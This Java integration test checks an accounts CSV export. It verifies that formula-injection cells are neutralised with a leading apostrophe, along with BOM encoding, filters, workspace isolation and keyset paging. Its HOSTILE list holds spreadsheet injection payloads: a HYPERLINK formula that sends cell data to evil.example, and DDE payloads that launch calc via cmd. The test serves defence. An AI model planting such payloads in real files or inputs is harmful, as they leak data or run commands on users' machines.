package io.kizuna.accounts;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import io.kizuna.TestHttp;
import io.kizuna.shared.WorkspaceId;
import io.kizuna.workspace.NewWorkspace;
import io.kizuna.workspace.TokenScope;
import io.kizuna.workspace.WorkspaceManagement;
import io.kizuna.workspace.AccessKeys;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

/** The accounts CSV: hostile cells neutralised, UTF-8 with BOM, filters honoured, every account exactly once. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class AccountExportIT {

	static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
			"-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "株式会社 \"引用\", カンマ\n改行");

	@LocalServerPort
	int port;

	@Autowired
	WorkspaceManagement workspaces;

	@Autowired
	AccessKeys accessKeys;

	@Autowired
	AccountManagement accounts;

	@Test
	void hostileNamesAreNeutralisedAndEverythingElseRoundTrips() throws Exception {
		String run = UUID.randomUUID().toString().substring(0, 8);
		WorkspaceId workspace = workspaces.create(new NewWorkspace("exp-" + run, "Exp", "JPY", "Asia/Tokyo", "ja")).id();
		WorkspaceId other = workspaces.create(new NewWorkspace("exp-o-" + run, "Other", "JPY", "Asia/Tokyo", "ja")).id();
		for (int i = 0; i < HOSTILE.size(); i++) {
			accounts.saveAccount(workspace, "h-" + i, new AccountDraft(HOSTILE.get(i), "=cmd.example", null, "enterprise",
					null, null, null, Map.of()));
		}
		accounts.saveAccount(other, "o-1", new AccountDraft("Secret of other", null, null, "enterprise", null, null, null,
				Map.of()));
		String token = accessKeys.issueApiToken(workspace, "exp", TokenScope.READ).secret();

		HttpResponse<byte[]> response = download("/api/v1/exports/accounts.csv?tier=enterprise", token);
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
		assertThat(response.headers().firstValue("Content-Disposition").orElse("")).contains("accounts.csv");
		byte[] body = response.body();
		assertThat(new byte[] { body[0], body[1], body[2] }).as("UTF-8 byte-order mark")
			.containsExactly(0xEF, 0xBB, 0xBF);
		List<CSVRecord> rows = parse(body);
		assertThat(rows).hasSize(HOSTILE.size());
		for (CSVRecord row : rows) {
			String original = HOSTILE.get(Integer.parseInt(row.get("external_id").substring(2)));
			String name = row.get("name");
			if ("=+-@\t\r＝".indexOf(original.charAt(0)) >= 0) {
				assertThat(name).as(original).isEqualTo("'" + original);
			}
			else {
				assertThat(name).as("harmless cells are unchanged, quotes, commas and newlines included").isEqualTo(original);
			}
			assertThat(row.get("domain")).isEqualTo("'=cmd.example");
		}
		assertThat(new String(body, StandardCharsets.UTF_8)).doesNotContain("Secret of other");
		assertThat(parse(download("/api/v1/exports/accounts.csv?tier=smb", token).body())).isEmpty();
		assertThat(download("/api/v1/exports/accounts.csv", "kzt_wrong").statusCode()).isEqualTo(401);
	}

	@Test
	void largeExportsArriveWholeInListOrderAcrossKeysetPages() throws Exception {
		String run = UUID.randomUUID().toString().substring(0, 8);
		WorkspaceId workspace = workspaces.create(new NewWorkspace("exp-l-" + run, "Large", "JPY", "Asia/Tokyo", "ja")).id();
		// More than two keyset pages, with names that tie so the account id decides the order.
		for (int i = 0; i < 1_207; i++) {
			accounts.saveAccount(workspace, String.format("acct-%05d", i), new AccountDraft("Same name " + (i % 3), null,
					null, "smb", null, null, null, Map.of()));
		}
		String token = accessKeys.issueApiToken(workspace, "exp", TokenScope.READ).secret();
		List<CSVRecord> rows = parse(download("/api/v1/exports/accounts.csv", token).body());
		assertThat(rows).hasSize(1_207);
		assertThat(rows.stream().map(r -> r.get("external_id")).distinct().count()).isEqualTo(1_207);
		List<String> names = new ArrayList<>(rows.stream().map(r -> r.get("name")).toList());
		assertThat(names).isSorted();
		assertThat(parse(download("/api/v1/exports/accounts.csv?q=" + "Same+name+2", token).body())).hasSize(402);
	}

	private HttpResponse<byte[]> download(String path, String token) throws Exception {
		return HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create(new TestHttp(port).url(path)))
				.header("Authorization", "Bearer " + token)
				.build(), HttpResponse.BodyHandlers.ofByteArray());
	}

	private static List<CSVRecord> parse(byte[] body) throws Exception {
		String text = new String(body, StandardCharsets.UTF_8);
		assertThat(text).startsWith("\uFEFF");
		return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
			.parse(new StringReader(text.substring(1)))
			.getRecords();
	}
}
